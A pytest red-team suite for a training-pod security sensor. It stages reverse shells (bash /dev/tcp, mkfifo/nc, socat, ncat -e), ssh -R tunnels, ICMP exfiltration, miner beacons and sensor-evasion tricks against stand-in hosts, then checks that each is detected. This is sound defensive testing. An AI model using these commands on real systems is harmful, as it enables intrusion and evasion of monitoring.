"""The red team of issues 9 and 10, end to end: real attacks, the real sensor, the real engine.

One pod (a pid + network namespace whose pid 1 plays the pause process) and the outside world
(another namespace on the far end of a veth pair: a pool, a C2 host, the allowed object store,
another pod of the job, the cluster DNS; world.py, outside.py). In the pod run a benign trainer
(a rendezvous listener on 29500, DNS, checkpoint uploads to the object store), the shipped
`trainguard sensor` recording every 0.2 s, and, test by test, each attack of the issues with real
tools where this machine has them (ssh, dbclient, socat, ncat, ping, bash /dev/tcp) beside a
benign twin. Every sample the sensor writes is read with the contract's parser and judged as it
comes by real `Engine`s (the training policy of the example traces; and the same with a process
allow-list and ICMP declared), on a clock 5 times the sensor's (world.Judge). Each test asserts
the rule that must fire names the attacking process, and that its twin raised nothing.

All traffic stays between the two namespaces. Root only (skipped with the reason otherwise); a
tool the machine lacks skips only its test, saying which.
"""

from __future__ import annotations

import os
import shutil
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.redteam import outside
from tests.redteam.outside import C2, FORGED, OBJECT_STORE, OBJECT_STORE_CLOSING, PEER_POD, POD_IP, POOL
from tests.redteam.world import POD, PY, TRAINGUARD, Judge, Verdicts, World, make_world
from trainguard.api.sample import SANDBOX_CONTAINER, SENSOR_CONTAINER
from trainguard.api.v1alpha1 import Policy
from trainguard.detection import Violation

#: The sensor samples every INTERVAL s; the engines judge it as once a second.
INTERVAL = 0.2
SCALE = 1 / INTERVAL
#: Samples a twin must have been judged in before "it raised nothing" means something (debounce 3, +2).
TWIN_SAMPLES = 5

#: The training policy of the example traces (examples/traces/policy-training.yaml), network and processes.
TRAINING = Policy.model_validate(
    {
        "network": {
            "egress": [{"cidr": "203.0.113.0/24", "ports": [{"port": 443}]}],
            "allowDNS": True,
            "allowIntraJob": True,
            "listenPorts": [29500],
            "forbidTunnels": True,
        },
        "enforcement": {"debounce": {"samples": 3}},
    }
)
#: The same, with a process allow-list (by executable) and ICMP/raw sockets declared.
DECLARED = Policy.model_validate(
    {
        **TRAINING.model_dump(by_alias=True, exclude_defaults=True),
        "processes": {"allowed": ["python3*", "sleep", "bash", "dash", "ssh", "dbclient", "socat", "ncat", "ping"]},
        "network": {**TRAINING.network.model_dump(by_alias=True), "unconnectedSockets": ["raw", "icmp"]},
    }
)

TRAINER = f"""
import socket, time
rdzv = socket.socket(); rdzv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
rdzv.bind(("0.0.0.0", 29500)); rdzv.listen(8); rdzv.setblocking(False)
dns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); dns.connect(("{outside.DNS}", 53))
store = socket.create_connection(("{OBJECT_STORE}", 443))
peers = []
while True:
    try:
        peers.append(rdzv.accept()[0])
    except BlockingIOError:
        pass
    dns.send(b"\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x02s3\\x00\\x00\\x01\\x00\\x01")
    store.sendall(b"checkpoint-shard" * 64)
    time.sleep(0.2)
"""


def need(*tools: str) -> None:
    for tool in tools:
        if shutil.which(tool) is None:
            pytest.skip(f"{tool} is not installed on this machine (apt-get install {tool})")


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = make_world(tmp_path_factory.mktemp("redteam"))
    try:
        yield w
    finally:
        w.close()


@pytest.fixture(scope="module")
def judge(world: World) -> Iterator[Judge]:
    """The pod's sensor, as shipped, and the engines judging it; the benign trainer runs from the start."""
    record = world.work / "worker-0.jsonl"
    judge = Judge(record, SCALE)
    judge.add("training", TRAINING)
    judge.add("declared", DECLARED)
    judge.trainer = world.pod.python(TRAINER)
    judge.sensor = world.pod.spawn(
        TRAINGUARD, "sensor", "--interval", str(INTERVAL), "--gpu-source", "none", "--pod", POD, "--record", str(record)
    )
    judge.until("the sensor's first samples", lambda: len(judge.samples) >= 2 or None, timeout=40)
    yield judge


def training(judge: Judge) -> Verdicts:
    return judge.engines["training"]


def declared(judge: Judge) -> Verdicts:
    return judge.engines["declared"]


def raised(v: Verdicts, rule: str, pid: int, identity: str | None = None) -> Violation | None:
    """A violation of `rule` whose evidence names `pid` (and whose identity is `identity`), or None."""
    for violation in v.about(pid):
        if violation.rule == rule and (identity is None or violation.identity == identity):
            return violation
    return None


def assert_clean(judge: Judge, v: Verdicts, *pids: int) -> None:
    """The twins were judged in enough samples, and no violation ever named them."""
    judge.judged_with(pids, TWIN_SAMPLES)
    for pid in pids:
        assert v.about(pid) == [], (pid, judge.process(pid))


def by_argv(judge: Judge, argv: list[str]) -> int:
    """The pid of the process the sensor shows with exactly this argv."""
    return judge.until(
        f"a process {argv}",
        lambda: next((p.pid for s in judge.samples[-3:] for p in s.processes if p.argv == argv), None),
    )


# --- the pod's plumbing ---------------------------------------------------------------------------------------------


def test_the_sandbox_and_the_sensor_are_named_by_container_not_by_what_they_call_themselves(
    world: World, judge: Judge
) -> None:
    """The engine exempts plumbing by container: the sensor reports pid 1 (the pause process) as `POD` and
    itself as `trainguard-sensor`; a workload binary called `pause` is in neither."""
    fake = world.work / "evil" / "pause"
    fake.parent.mkdir()
    shutil.copy("/usr/bin/sleep", fake)
    impostor = world.pod.spawn(str(fake), "600")
    judge.until("the impostor", lambda: judge.process(impostor))
    sandbox, sensor, fake_pause = judge.process(1), judge.process(judge.sensor), judge.process(impostor)
    assert sandbox is not None and sandbox.container == SANDBOX_CONTAINER and sandbox.exe.endswith("/pause")
    assert sensor is not None and sensor.container == SENSOR_CONTAINER
    assert fake_pause is not None and fake_pause.name == "pause" and fake_pause.container == ""
    # Under an allow-list that does not name `pause`: the impostor is unexpected, the sandbox is not.
    judge.until("the impostor flagged", lambda: raised(declared(judge), "process.unexpected", impostor))
    assert_clean(judge, declared(judge), 1, judge.sensor)
    world.pod.signal(impostor, signal.SIGKILL)


# --- trust from Kubernetes ------------------------------------------------------------------------------------------


def test_an_address_bound_with_ip_transparent_is_not_a_job_pod_and_ssh_to_it_is_a_tunnel(
    world: World, judge: Judge
) -> None:
    """v1 learned pod IPs from samples: one socket bound (IP_TRANSPARENT) to an address made it a job pod,
    and ssh to it raised nothing. Now the job's pods come from the API server only."""
    need("ssh")
    forger = world.pod.python(
        f"""
import socket, time
t = socket.socket(); t.setsockopt(socket.SOL_IP, 19, 1)  # IP_TRANSPARENT
t.bind(("{FORGED}", 5000)); t.setblocking(False)
t.connect_ex(("{C2}", 8443))
time.sleep(600)
"""
    )
    judge.until(
        "the forged local address in a sample",
        lambda: any(c.local.address == FORGED and c.pid == forger for c in judge.samples[-1].connections) or None,
    )
    opts = ["-T", "-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]
    ssh = world.pod.spawn("ssh", *opts, FORGED)
    mpi = world.pod.spawn("ssh", *opts, PEER_POD)  # the twin: ssh to a pod of the job (MPI does this)
    judge.until("ssh to the forged address", lambda: raised(training(judge), "net.tunnel", ssh, f"{FORGED}:22"))
    assert_clean(judge, training(judge), mpi)
    for pid in (forger, ssh, mpi):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_forged_pod_name_is_sensor_identity(world: World, judge: Judge) -> None:
    """v1 trusted sample.pod: a sample naming another pod cleared that pod's violations. A second real
    sensor in this pod says it is worker-1; dialled as worker-0 it is sensor.identity, as itself it is not."""
    record = world.work / "forged.jsonl"
    forged = Judge(record, SCALE)
    as_dialled = forged.add("dialled", TRAINING, dialled=POD)
    as_itself = forged.add("itself", TRAINING, dialled="agents/worker-1")
    sensor = world.pod.spawn(
        TRAINGUARD, "sensor", "--interval", str(INTERVAL), "--gpu-source", "none", "--pod", "agents/worker-1",
        "--record", str(record),
    )  # fmt: skip
    try:
        forged.until("sensor.identity", lambda: as_dialled.new("sensor.identity") or None, timeout=40)
        forged.until("a few samples", lambda: len(forged.samples) >= TWIN_SAMPLES or None)
        assert as_itself.new("sensor.identity") == []
        assert as_dialled.new("sensor.identity")[0].evidence["claimed"] == "agents/worker-1"
        # Nothing else in a forged sample is believed: it raised nothing but sensor.identity.
        assert {d.violation.rule for d in as_dialled.decisions} == {"sensor.identity"}
        assert training(judge).new("sensor.identity") == []  # the pod's own sensor names the right pod
    finally:
        world.pod.signal(sensor, signal.SIGKILL)


# --- every socket that can carry data ---------------------------------------------------------------------------------


def test_a_client_sharing_the_rendezvous_port_to_a_pool_is_a_tunnel(world: World, judge: Judge) -> None:
    """v1 decided "inbound" by the local port: a client bound (SO_REUSEPORT) to the listening port 29500
    talked Stratum to a pool unseen. The twin: another pod of the job really connecting in to 29500."""
    miner = world.pod.python(
        f"""
import socket, time
c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
c.bind(("{POD_IP}", 29500)); c.connect(("{POOL}", 3333))
while True:
    c.sendall(b'{{"id":1,"method":"mining.submit","params":["w","1","0"]}}\\n'); time.sleep(0.2)
"""
    )
    peer = world.outside.python(
        f"""
import socket, time
c = socket.socket(); c.bind(("{PEER_POD}", 0)); c.connect(("{POD_IP}", 29500))
while True:
    c.sendall(b"rendezvous"); time.sleep(0.2)
"""
    )
    v = judge.until("the pool connection", lambda: raised(training(judge), "net.tunnel", miner, f"{POOL}:3333"))
    assert v.evidence["local"] == f"{POD_IP}:29500"
    assert_clean(judge, training(judge), judge.trainer)
    judge.until(  # the twin's connection, accepted by the trainer, judged inbound: nothing raised about it
        "the peer's connection in to 29500",
        lambda: (
            any(
                c.pid == judge.trainer and c.remote.address == PEER_POD and c.local.port == 29500
                for c in judge.samples[-1].connections
            )
            or None
        ),
    )
    assert_clean(judge, training(judge), judge.trainer)
    world.pod.signal(miner, signal.SIGKILL)
    world.outside.signal(peer, signal.SIGKILL)


def test_a_client_sharing_the_rendezvous_port_to_a_c2_port_is_undeclared_egress(world: World, judge: Judge) -> None:
    """A client bound (SO_REUSEPORT) to the wildcard rendezvous listener's port 29500, as torch's TCPStore
    binds it, talking to a C2 on 8443 (neither SSH nor a pool): it is on the listener, so the second
    engine took it for inbound and never judged it. Inbound now also needs a client's (ephemeral) source
    port at the far end; 8443 is a server's. The twin (the peer pod connecting in, judged inbound) is
    in the test above."""
    c2 = world.pod.python(
        f"""
import socket, time
c = socket.socket(); c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
c.bind(("{POD_IP}", 29500)); c.connect(("{C2}", 8443))
while True:
    c.sendall(b"beacon"); time.sleep(0.2)
"""
    )
    try:
        judge.judged_with([c2], TWIN_SAMPLES)
        assert any(c.pid == c2 and c.remote.port == 8443 for c in judge.samples[-1].connections)  # the sensor saw it
        assert raised(training(judge), "net.egress.undeclared", c2, f"{C2}:8443") is not None
    finally:
        world.pod.signal(c2, signal.SIGKILL)


def test_a_miner_in_close_wait_is_judged(world: World, judge: Judge) -> None:
    """v1 judged some TCP states only: a miner kept sending shares from CLOSE_WAIT (the pool had closed
    its side). The twin: a checkpoint upload in CLOSE_WAIT to the allowed object store."""
    code = """
import socket, sys, time
c = socket.create_connection((sys.argv[1], int(sys.argv[2])))
while True:
    c.sendall(b'{"method":"mining.submit"}\\n'); time.sleep(0.2)
"""
    miner = world.pod.python(code, POOL, "3334")
    upload = world.pod.python(code, OBJECT_STORE_CLOSING, "443")
    # (its first sample may show it ESTABLISHED, before the pool's FIN: wait for the latest evidence)
    judge.until(
        "the miner in CLOSE_WAIT",
        lambda: (w := training(judge).standing("net.tunnel", miner)) and w.evidence["state"] == "CLOSE_WAIT" and w,
    )
    assert_clean(judge, training(judge), upload)
    assert any(c.pid == upload and c.state == "CLOSE_WAIT" for c in judge.samples[-1].connections)
    for pid in (miner, upload):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_beacon_that_leaves_only_time_wait_is_undeclared_egress(world: World, judge: Judge) -> None:
    """v1 ignored TIME_WAIT: a beacon that connects, sends and closes every few seconds left only TIME_WAIT
    sockets (no owner) to a forbidden port. The twin does the same to the allowed object store."""
    code = """
import socket, sys, time
while True:
    with socket.create_connection((sys.argv[1], int(sys.argv[2]))) as c:
        c.sendall(b"beacon")
    time.sleep(0.3)
"""
    beacon = world.pod.python(code, C2, "8443")
    twin = world.pod.python(code, OBJECT_STORE, "443")

    def time_wait() -> Violation | None:
        for v in training(judge).engine.standing():
            if v.rule == "net.egress.undeclared" and v.identity == f"{C2}:8443" and v.evidence["state"] == "TIME_WAIT":
                return v
        return None

    v = judge.until("the beacon's TIME_WAIT sockets", time_wait)
    assert v.evidence["pid"] is None  # the kernel's word alone: no owner
    judge.judged_with([beacon, twin], TWIN_SAMPLES)
    assert not [d for d in training(judge).decisions if d.violation.identity == f"{OBJECT_STORE}:443"]
    for pid in (beacon, twin):
        world.pod.signal(pid, signal.SIGKILL)


def test_ping_payloads_and_raw_sockets_are_sockets_without_a_peer(world: World, judge: Judge) -> None:
    """v1 never read raw or ICMP sockets: `ping -p` exfiltration was invisible. ping here uses a raw socket
    (the namespace does not allow ICMP echo sockets), the python sender an ICMP echo socket after
    ping_group_range allows them. The twin is the policy: with raw and ICMP declared, nothing."""
    need("ping")
    ping = world.pod.spawn("ping", "-q", "-i", "0.2", "-p", "6578666c747261746564", C2)
    judge.until("ping's raw socket", lambda: raised(training(judge), "net.socket.unconnected", ping))
    world.pod.spawn("sh", "-c", "echo 0 2147483647 > /proc/sys/net/ipv4/ping_group_range")
    echo = world.pod.python(
        f"""
import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
while True:
    s.sendto(bytes([8, 0, 0, 0, 0, 1, 0, 1]) + b"exfiltrated", ("{C2}", 0)); time.sleep(0.2)
"""
    )
    v = judge.until("the ICMP echo socket", lambda: raised(training(judge), "net.socket.unconnected", echo))
    assert v.identity.startswith("icmp ")
    raw = raised(training(judge), "net.socket.unconnected", ping)
    assert raw is not None and raw.identity.startswith("raw ")
    assert_clean(judge, declared(judge), ping, echo)
    for pid in (ping, echo):
        world.pod.signal(pid, signal.SIGKILL)


def test_an_unconnected_udp_sender_is_not_a_listener(world: World, judge: Judge) -> None:
    """v1 listed an unconnected UDP socket that talks with sendto() as a listener (exempt in the ephemeral
    range). Twins: the trainer's connected DNS socket to the cluster resolver, a UDP server on a declared port."""
    sender = world.pod.python(
        f"""
import socket, time
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 40000))
while True:
    u.sendto(b"c2", ("{C2}", 5599)); time.sleep(0.2)
"""
    )
    server = world.pod.python(
        """
import socket
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.bind(("0.0.0.0", 29500))
while True:
    u.recvfrom(65536)
"""
    )
    v = judge.until("the UDP sender", lambda: raised(training(judge), "net.socket.unconnected", sender))
    assert v.identity == "udp 0.0.0.0:40000"
    assert_clean(judge, training(judge), server, judge.trainer)
    for pid in (sender, server):
        world.pod.signal(pid, signal.SIGKILL)


# --- reverse shells to an allowed address -------------------------------------------------------------------------


def test_reverse_shells_to_the_allowed_object_store(world: World, judge: Judge) -> None:
    """v1 saw nothing in `bash -i >& /dev/tcp/<allowed>/443 0>&1` nor the python one-liner: the address is
    allowed. Now a shell or interpreter whose stdin/stdout is a socket of the pod is a reverse shell.
    The twin: bash holding a socket to the same address on fd 3, its standard streams not on it."""
    need("bash")
    world.pod.spawn("bash", "-c", f"bash -i >& /dev/tcp/{OBJECT_STORE}/443 0>&1")
    py = world.pod.python(
        f"""
import os, socket, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM); s.connect(("{OBJECT_STORE}", 443))
os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
subprocess.call(["/bin/sh", "-i"])
"""
    )
    fd3 = f"exec 3<>/dev/tcp/{OBJECT_STORE}/443; while :; do echo x >&3; sleep 0.2; done"
    twin = world.pod.spawn("bash", "-c", fd3)
    shell = by_argv(judge, ["bash", "-i"])
    v = judge.until("bash -i on a socket", lambda: raised(training(judge), "process.reverse-shell", shell))
    # The sensor gave the stream's socket inode, so the engine names the very connection.
    assert v.evidence["remote"] == f"{OBJECT_STORE}:443" and v.evidence["interpreter"] == "bash"
    judge.until("the python reverse shell", lambda: raised(training(judge), "process.reverse-shell", py))
    sh = by_argv(judge, ["/bin/sh", "-i"])
    judge.until("its sh", lambda: raised(training(judge), "process.reverse-shell", sh))
    assert_clean(judge, training(judge), twin)
    for pid in (shell, py, sh, twin):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_renamed_shell_or_interpreter_on_a_socket_is_a_reverse_shell(world: World, judge: Judge) -> None:
    """Found by this red team: the shell list is by name, and every name is the workload's to choose,
    the executable's file name too (a copy of bash called `kworker`, of python called `kthreadd` with its
    shell on a pty, so that no process is both a known shell and on the socket). What no process can
    hide is that its standard input and output are one network connection. The twin: a renamed binary
    holding a connection to the same address on another descriptor."""
    need("bash")
    bin2 = world.work / "bin2"
    bin2.mkdir()
    shutil.copy("/usr/bin/bash", bin2 / "kworker")
    shutil.copy(os.path.realpath(PY), bin2 / "kthreadd")
    kworker = str(bin2 / "kworker")
    world.pod.spawn(kworker, "-c", f"{kworker} -i >& /dev/tcp/{OBJECT_STORE}/443 0>&1")
    shell = by_argv(judge, [kworker, "-i"])
    pty = world.pod.spawn(
        "kthreadd",
        "-c",
        f"""
import os, pty, socket
s = socket.create_connection(("{OBJECT_STORE}", 443))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
pty.spawn("/bin/sh")
""",
        executable=str(bin2 / "kthreadd"),
    )
    twin = world.pod.spawn(
        kworker, "-c", f"exec 3<>/dev/tcp/{OBJECT_STORE}/443; while :; do echo x >&3; sleep 0.2; done"
    )
    v = judge.until("the renamed bash", lambda: raised(training(judge), "process.reverse-shell", shell))
    assert v.evidence["remote"] == f"{OBJECT_STORE}:443" and v.evidence["exe"] == kworker
    judge.until("the renamed python", lambda: raised(training(judge), "process.reverse-shell", pty))
    assert_clean(judge, training(judge), twin)
    for pid in (shell, pty, twin):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_mkfifo_and_nc_reverse_shell_to_the_allowed_object_store(world: World, judge: Judge) -> None:
    """Found by this red team: `cat f | sh -i 2>&1 | nc HOST 443 > f` leaves no process with a socket on its
    standard streams (sh reads a pipe from cat, nc holds the socket on another descriptor), and nc without
    -e is no tunnel tool. What gives it away is the loop: the shell's output is the input of a process on
    the network whose output comes back, through the FIFO and cat, as the shell's input. The twin: a shell
    whose output a networked nc uploads, its input its own."""
    need("nc", "sh")
    fifo = world.work / "f"
    world.pod.spawn("sh", "-c", f"mkfifo {fifo}; cat {fifo} | /bin/sh -i 2>&1 | nc {OBJECT_STORE} 443 > {fifo}")
    world.pod.spawn("sh", "-c", f"while :; do echo log; sleep 0.2; done | nc {OBJECT_STORE} 443")
    shell = by_argv(judge, ["/bin/sh", "-i"])
    v = judge.until("the shell in the loop", lambda: raised(training(judge), "process.reverse-shell", shell))
    relay = judge.process(int(str(v.evidence["relay"])))
    assert relay is not None and relay.argv == ["nc", OBJECT_STORE, "443"] and relay.stdout is not None
    assert relay.stdout.target == str(fifo) and v.evidence["remote"] == f"{OBJECT_STORE}:443"
    twins = [
        p.pid
        for p in judge.samples[-1].processes
        if (p.argv[:2] == ["sh", "-c"] and "echo log" in p.argv[2]) or (p.name == "nc" and p.pid != relay.pid)
    ]
    assert len(twins) >= 3  # the twin's sh, its loop's subshell, its nc
    assert_clean(judge, training(judge), *twins)
    for pid in (shell, relay.pid, *twins):
        world.pod.signal(pid, signal.SIGKILL)


# --- tools by their argv and executable ---------------------------------------------------------------------------

SSH_OPTS = ["-o", "BatchMode=yes", "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null"]


def test_ssh_forwards_in_any_spelling_and_not_ordinary_options(world: World, judge: Judge) -> None:
    """v1's pattern flagged `ssh -oUserKnownHostsFile=...` (it holds an R) and `ssh host ls -lR` as tunnels,
    and missed `-o 'RemoteForward ...'`. Real ssh clients, each to the allowed object store on 443 (the
    working backdoor of the issue), one after another: the violation names each one as it comes (two
    at once: the next test)."""
    need("ssh")
    twins = [
        world.pod.spawn("ssh", "-oUserKnownHostsFile=/dev/null", "-oStrictHostKeyChecking=no", "-oBatchMode=yes",
                        "-p", "443", OBJECT_STORE, "ls", "-lR"),
        world.pod.spawn("ssh", "-F", "/dev/null", *SSH_OPTS, "-p", "443", OBJECT_STORE, "rsync", "-R"),
    ]  # fmt: skip
    spellings = [
        ["-N", "-R", "2222:localhost:22"],
        ["-N", "-oRemoteForward=2222 localhost:22"],
        ["-N", "-o", "RemoteForward 2222 localhost:22"],
        ["-fNR2222:localhost:22"],
    ]
    for spelling in spellings:
        pid = world.pod.spawn("ssh", *SSH_OPTS, *spelling, "-p", "443", OBJECT_STORE)
        if spelling[0].startswith("-f"):
            pid = by_argv(judge, ["ssh", *SSH_OPTS, *spelling, "-p", "443", OBJECT_STORE])  # -f: it forks
        v = judge.until(f"ssh {spelling}", lambda pid=pid: training(judge).standing("net.tunnel", pid))
        assert "RemoteForward" in str(v.evidence["reason"]) or "-R" in str(v.evidence["reason"])
        world.pod.signal(pid, signal.SIGKILL)
    assert_clean(judge, training(judge), *twins)
    for pid in twins:
        world.pod.signal(pid, signal.SIGKILL)


def test_a_second_tunnel_of_the_same_tool_is_a_violation_of_its_own(world: World, judge: Judge) -> None:
    """The second engine keyed a tool's tunnel by its name (`process:ssh`): a second `ssh -R` to the
    allowed 443, opened while the first stood, was in no decision (the quarantine's cut keeps that
    connection and stops only the pid a decision names), and it stood on unreported after the first
    was killed. Two real ssh clients: each is a `new` net.tunnel naming its own pid; killing the first
    clears the first only."""
    need("ssh")
    first = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2222:localhost:22", "-p", "443", OBJECT_STORE)
    judge.until("the first tunnel", lambda: training(judge).standing("net.tunnel", first))
    second = world.pod.spawn("ssh", *SSH_OPTS, "-N", "-R", "2223:localhost:22", "-p", "443", OBJECT_STORE)
    alive = [first, second]
    try:
        v = judge.until(
            "the second tunnel's own decision",
            lambda: next((v for v in training(judge).new("net.tunnel") if v.evidence.get("pid") == second), None),
        )
        assert v.identity == f"process:ssh pid {second}"
        world.pod.signal(alive.pop(0), signal.SIGKILL)
        judge.until(
            "the first tunnel cleared",
            lambda: any(
                d.kind == "cleared" and d.violation.evidence.get("pid") == first for d in training(judge).decisions
            )
            or None,
        )
        assert training(judge).standing("net.tunnel", second) is not None
    finally:
        for pid in alive:
            world.pod.signal(pid, signal.SIGKILL)


def test_ssh_with_a_config_file_and_dbclient_forwards(world: World, judge: Judge) -> None:
    """Forwards in an `ssh -F` file are invisible in argv: a finding of its own (net.tunnel.ssh-config).
    dropbear's dbclient -R is a tunnel like ssh's."""
    need("ssh")
    config = world.work / "ssh_config"
    config.write_text("Host *\n  RemoteForward 2222 localhost:22\n  BatchMode yes\n  StrictHostKeyChecking no\n")
    ssh = world.pod.spawn("ssh", "-F", str(config), "-N", "-p", "443", OBJECT_STORE)
    judge.until("ssh -F", lambda: raised(training(judge), "net.tunnel.ssh-config", ssh))
    if shutil.which("dbclient") is not None:
        db = world.pod.spawn("dbclient", "-y", "-N", "-R", "2222:localhost:22", "-p", "443", OBJECT_STORE)
        judge.until("dbclient -R", lambda: training(judge).standing("net.tunnel", db))
        world.pod.signal(db, signal.SIGKILL)
    world.pod.signal(ssh, signal.SIGKILL)


def test_socat_and_ncat_running_a_shell_for_the_peer(world: World, judge: Judge) -> None:
    """socat EXEC: and ncat -e hand a program to whoever is at the far end (the allowed 443 here). The twin:
    socat relaying to the same address without running anything."""
    need("socat", "ncat")
    socat = world.pod.spawn("socat", f"TCP:{OBJECT_STORE}:443", "EXEC:/bin/sh")
    ncat = world.pod.spawn("ncat", "-e", "/bin/sh", OBJECT_STORE, "443")
    relay = world.pod.spawn("socat", "-u", "FILE:/dev/null,ignoreeof", f"TCP:{OBJECT_STORE}:443")
    v = judge.until("socat EXEC", lambda: training(judge).standing("net.tunnel", socat))
    assert v.identity == f"process:socat pid {socat}"
    judge.until("ncat -e", lambda: training(judge).standing("net.tunnel", ncat))
    assert_clean(judge, training(judge), relay)
    for pid in (socat, ncat, relay):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_miner_renamed_pause_is_known_by_its_executable(world: World, judge: Judge) -> None:
    """A process is whatever it calls itself: comm `pause`, argv[0] `python3`. Its executable says xmrig.
    The twin is the same interpreter under an honest file name."""
    binary = os.path.realpath(PY)
    for name in ("xmrig", "trainer"):
        path = world.work / "bin" / name
        path.parent.mkdir(exist_ok=True)
        shutil.copy(binary, path)
    code = "import ctypes, time; ctypes.CDLL(None).prctl(15, b'pause', 0, 0, 0); time.sleep(600)"
    miner = world.pod.spawn("python3", "-c", code, executable=str(world.work / "bin" / "xmrig"))
    twin = world.pod.spawn("python3", "-c", code, executable=str(world.work / "bin" / "trainer"))
    # (its first sample may show comm `xmrig`, before its prctl ran: wait for the latest evidence to say pause)
    v = judge.until(
        "the renamed miner",
        lambda: (w := training(judge).standing("process.denied", miner)) and w.evidence["process"] == "pause" and w,
    )
    assert str(v.evidence["exe"]).endswith("/xmrig") and v.evidence["argv"][0] == "python3"  # type: ignore[index]
    assert_clean(judge, training(judge), twin)
    for pid in (miner, twin):
        world.pod.signal(pid, signal.SIGKILL)


def test_an_exec_in_place_is_judged_at_the_next_tick(world: World, judge: Judge) -> None:
    """v1 kept the old command line for 19 s after python exec'd python with a pool URL (same pid, same
    name). The twin execs the same way into a harmless command line."""
    code = """
import os, signal, sys
signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGUSR1})
signal.sigwait({signal.SIGUSR1})
then = {"mine": "stratum+" + "tcp://" + sys.argv[2] + ":3333", "train": "--data=/datasets/shard-0"}[sys.argv[1]]
os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", then])
"""
    miner = world.pod.python(code, "mine", POOL)
    twin = world.pod.python(code, "train", POOL)
    judge.judged_with([miner, twin], 2)
    assert raised(training(judge), "process.denied", miner) is None  # not yet: its argv still says nothing
    execed = time.time()
    for pid in (miner, twin):
        world.pod.signal(pid, signal.SIGUSR1)
    v = judge.until("the exec'd miner", lambda: raised(training(judge), "process.denied", miner))
    assert v.first_seen - execed < 5 * INTERVAL, v.first_seen - execed
    assert_clean(judge, training(judge), twin)
    for pid in (miner, twin):
        world.pod.signal(pid, signal.SIGKILL)


def test_a_deleted_executable_matches_no_allow_list(world: World, judge: Judge) -> None:
    """A dropped binary deleted after its start: its exe is marked deleted, and an allow-list that names its
    file name does not excuse it (fail closed). The twin is the same binary, still on disk."""
    drop, keep = world.work / "drop" / "sleep", world.work / "keep" / "sleep"
    for path in (drop, keep):
        path.parent.mkdir()
        shutil.copy("/usr/bin/sleep", path)
    dropped = world.pod.spawn(str(drop), "600")
    kept = world.pod.spawn(str(keep), "601")
    judge.until("the dropped binary", lambda: judge.process(dropped))
    Path(drop).unlink()
    judge.until("it marked deleted", lambda: ((p := judge.process(dropped)) and p.exe_status == "deleted") or None)
    judge.until("it flagged", lambda: raised(declared(judge), "process.unexpected", dropped))
    assert_clean(judge, declared(judge), kept)
    for pid in (dropped, kept):
        world.pod.signal(pid, signal.SIGKILL)


# --- the sensor's health ----------------------------------------------------------------------------------------------


def test_a_miner_hidden_past_the_process_cap_is_sensor_capped(world: World, judge: Judge) -> None:
    """The sensor reports at most --max-processes processes, the lowest pids: a workload that spawns
    decoys first pushes a later miner out of the sample. A second real sensor with a small cap (16)
    shows it: the miner is absent, the cap is a `process_cap` error, and the engine raises
    `sensor.capped process_cap`, Critical like the miner it hides (the second engine raised only
    `sensor.degraded`, Medium: under a Quarantine-on-Critical ladder an Alert; docs/threat-model.md)."""
    miner_exe = world.work / "cap" / "xmrig"
    miner_exe.parent.mkdir()
    shutil.copy("/usr/bin/sleep", miner_exe)
    decoys = [world.pod.spawn("sleep", "600") for _ in range(16)]
    miner = world.pod.spawn(str(miner_exe), "600")
    record = world.work / "capped.jsonl"
    capped = Judge(record, SCALE)
    verdicts = capped.add("capped", TRAINING)
    sensor = world.pod.spawn(
        TRAINGUARD, "sensor", "--interval", str(INTERVAL), "--gpu-source", "none", "--pod", POD,
        "--max-processes", "16", "--record", str(record),
    )  # fmt: skip
    try:
        v = capped.until("sensor.capped", lambda: next(iter(verdicts.new("sensor.capped")), None), timeout=40)
        assert v.severity == "Critical"
        assert v.identity == "process_cap"
        assert all(miner not in {p.pid for p in s.processes} for s in capped.samples)  # hidden from this sensor
        assert verdicts.new("process.denied") == []
        judge.until("the uncapped sensor's view of it", lambda: raised(training(judge), "process.denied", miner))
    finally:
        for pid in (sensor, miner, *decoys):
            world.pod.signal(pid, signal.SIGKILL)


def test_a_sensor_frozen_most_of_the_time_is_sensor_gap(world: World, judge: Judge) -> None:
    """SIGSTOP 7 s of every 9 kept v1's sensor under the 10 s silence bound while it saw nothing. A second
    real sensor in the pod is stopped 1.4 s of every 1.8 s (7 of 9 at the engines' clock); the pod's own
    sensor, never stopped, is the twin."""
    record = world.work / "frozen.jsonl"
    frozen = Judge(record, SCALE)
    verdicts = frozen.add("frozen", TRAINING, dialled="agents/worker-2")
    sensor = world.pod.spawn(
        TRAINGUARD, "sensor", "--interval", str(INTERVAL), "--gpu-source", "none", "--pod", "agents/worker-2",
        "--record", str(record),
    )  # fmt: skip
    try:
        frozen.until("the second sensor's samples", lambda: len(frozen.samples) >= 3 or None, timeout=40)
        for _ in range(3):
            world.pod.signal(sensor, signal.SIGSTOP)
            time.sleep(1.4)  # the attack's duty cycle, not a wait for a result
            world.pod.signal(sensor, signal.SIGCONT)
            time.sleep(0.4)
            frozen.feed()
            if verdicts.new("sensor.gap"):
                break
